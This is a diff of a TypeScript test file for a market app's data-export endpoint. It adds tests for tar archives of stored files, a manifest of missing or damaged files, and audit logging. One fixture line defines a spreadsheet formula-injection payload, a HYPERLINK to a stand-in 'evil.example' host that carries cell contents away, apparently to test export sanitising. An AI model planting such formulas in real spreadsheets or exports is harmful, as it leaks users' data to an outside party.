@@ -4,30 +4,46 @@ import type { Money, Tally } from '$lib/domain/figures/sales';
 import { formatPhone } from '$lib/domain/ordering/phone';
 import { sql } from 'drizzle-orm';
 import { unzipSync } from 'fflate';
+import { execFile } from 'node:child_process';
 import { createHash } from 'node:crypto';
+import { mkdtemp, rm } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
 import readXlsxFile from 'read-excel-file/node';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 
 import { Stall } from '../../tests/fixtures/stall';
 import { listChanges } from '../audit/list-changes';
+import { addPicture } from '../catalogue/pictures/add-picture';
+import { newPerson } from '../certification/dossier.fixture';
 import type { Context } from '../context';
+import { FileShelf } from '../files/file-shelf';
+import { seedFile } from '../files/files.fixture';
 import { getMarketFigures, getProducerFigures } from '../figures/read-figures';
 import { createSession } from '../market/sessions';
 import { rearm } from '../spreadsheet/formula';
 import { answerExport } from './answer-export';
+import { countFiles } from './pack-files';
 
 const FORMULA = '=HYPERLINK("http://evil.example?x="&A1,"Bấm")';
 const PERIOD = 'from=2026-11-20&until=2026-11-20';
 
 let stall: Stall;
+let shelf: FileShelf;
+let folder: string;
 beforeAll(async () => {
 	stall = await Stall.open(3);
+	folder = await mkdtemp(join(tmpdir(), 'export-'));
+	shelf = new FileShelf(folder);
 	await stall.place(await stall.order({ note: 'GHI-CHU-CUA-NGUOI-MUA' }));
 	await stall.place(
 		await stall.order({ producerId: stall.neighbour, lines: [stall.line(stall.tea)] }),
 	);
 });
-afterAll(() => stall[Symbol.asyncDispose]());
+afterAll(async () => {
+	await rm(folder, { recursive: true, force: true });
+	await stall[Symbol.asyncDispose]();
+});
 
 const person = (roles: Account['roles'], producers: Account['producers'] = []): Account => ({
 	id: accountId('somebody'),
@@ -59,7 +75,8 @@ function ask(account: Account | null, what: string, search = ''): Promise<Respon
 		signedIn: () => Promise.resolve(signedIn),
 	} as Context;
 	const language = 'vi';
-	return answerExport(context, { what, search: new URLSearchParams(search), language });
+	const wish = { what, search: new URLSearchParams(search), language, shelf } as const;
+	return answerExport(context, wish);
 }
 
 function sha256OfBytes(bytes: Uint8Array): string {
@@ -75,6 +92,7 @@ const own = () => `producer=${stall.producer}&table=products&format=csv&${PERIOD
 describe('who may have what', () => {
 	it.each<[string, () => string, readonly string[]]>([
 		['everything', () => 'format=zip', ['administrator']],
+		['everything', () => 'format=tar', ['administrator']],
 		['import-template', () => '', ['administrator']],
 		[
 			'market-figures',
@@ -301,6 +319,75 @@ describe('everything', () => {
 	});
 });
 
+describe('the files that the rows name', () => {
+	const administrator = person(['administrator']);
+	const PAPER = Buffer.from('%PDF-1.7 một tờ giấy dài hơn một khối '.repeat(30));
+
+	/** Hands a paper in. @param bytes what lies on the shelf; left out where it is gone */
+	async function handIn(sha256: string, bytes?: Buffer): Promise<void> {
+		const { accountId: id } = await newPerson(stall.db.database, [], stall.now);
+		const file = { purpose: 'document', producerId: stall.producer, accountId: id } as const;
+		const made = await seedFile(stall.db.database, file, stall.now);
+		await stall.db.sql`
+			update files set sha256 = ${sha256}, bytes = ${bytes?.length ?? 7} where id = ${made}`;
+		if (bytes) await shelf.put(made, bytes);
+	}
+
+	async function unpack() {
+		const packed = await bytesOf(await ask(administrator, 'everything', 'format=tar'));
+		const { stdout } = await untar(packed, ['-t']);
+		const names = stdout.toString().trim().split('\n');
+		const contentOf = async (name: string) => (await untar(packed, ['-xO', name])).stdout;
+		const list: unknown = JSON.parse((await contentOf('manifest.json')).toString());
+		return { names, contentOf, list };
+	}
+
+	it('come as an archive that any computer opens, by the names that the table gives them', async () => {
+		const paper = sha256OfBytes(PAPER);
+		await handIn(paper, PAPER);
+		await handIn(paper, PAPER);
+		await handIn('f'.repeat(64), Buffer.from('khác'));
+		await handIn('e'.repeat(64));
+		const hash = await addPicture(stall.db.database, '<svg/>');
+		const { names, contentOf, list } = await unpack();
+		expect(names).toEqual([`files/${paper}.pdf`, `pictures/${hash}.svg`, 'manifest.json']);
+		expect(await contentOf(`files/${paper}.pdf`)).toEqual(PAPER);
+		// What is not there any more, or is other than it was, is said and never handed out as if it were.
+		expect(list).toMatchObject({
+			...{ files: 1, bytes: PAPER.length, pictures: 1 },
+			lost: [
+				{ sha256: 'e'.repeat(64), why: 'missing' },
+				{ sha256: 'f'.repeat(64), why: 'damaged' },
+			],
+		});
+		expect(await countFiles(stall.db.database)).toEqual({
+			files: 3,
+			bytes: PAPER.length + Buffer.from('khác').length + 7,
+		});
+	});
+
+	it('come whole where they are more than one reading of rows', async () => {
+		for (let n = 0; n < 3; n++) {
+			await stall.db.sql`
+				insert into files (id, purpose, account_id, producer_id, name, state, declared_bytes,
+					media_type, bytes, sha256, created_at)
+				select gen_random_uuid(), purpose, account_id, producer_id, name, state, declared_bytes,
+					media_type, bytes, 'a' || lpad((${n} * 100 + i)::text, 63, '0'), created_at
+				from files, generate_series(1, 100) i where sha256 = ${'e'.repeat(64)}`;
+		}
+		const { lost } = (await unpack()).list as { lost: readonly unknown[] };
+		expect(lost).toHaveLength(302);
+		await stall.db.sql`delete from files where sha256 like 'a0%'`;
+	});
+
+	it('are written down before they leave', async () => {
+		await (await ask(administrator, 'everything', 'format=tar')).body?.cancel();
+		const asked = { before: null, accountId: null, producerId: null, text: 'data.export' };
+		const { entries } = await listChanges(stall.db.database, asked);
+		expect(entries[0]).toMatchObject({ accountId: 'somebody', after: { format: 'tar' } });
+	});
+});
+
 describe('each table of figures', () => {
 	const host = person(['host']);
 	const download = async (table: string, format: string) =>
@@ -450,6 +537,18 @@ function parseCsv(text: string): string[][] {
 		if (end === '') break;
 	}
 	return rows.filter((row) => row.join('') !== '');
+}
+
+/** By the machine's own program, which knows nothing of how it was packed. */
+function untar(packed: Buffer, wish: readonly string[]): Promise<{ stdout: Buffer }> {
+	return new Promise((resolve, reject) => {
+		const options = { encoding: 'buffer', maxBuffer: 10_000_000 } as const;
+		const child = execFile('tar', ['-f', '-', ...wish], options, (error, stdout) => {
+			if (error) reject(error);
+			else resolve({ stdout });
+		});
+		child.stdin?.end(packed);
+	});
 }
 
 const inCsv = (value: string | number | null) =>
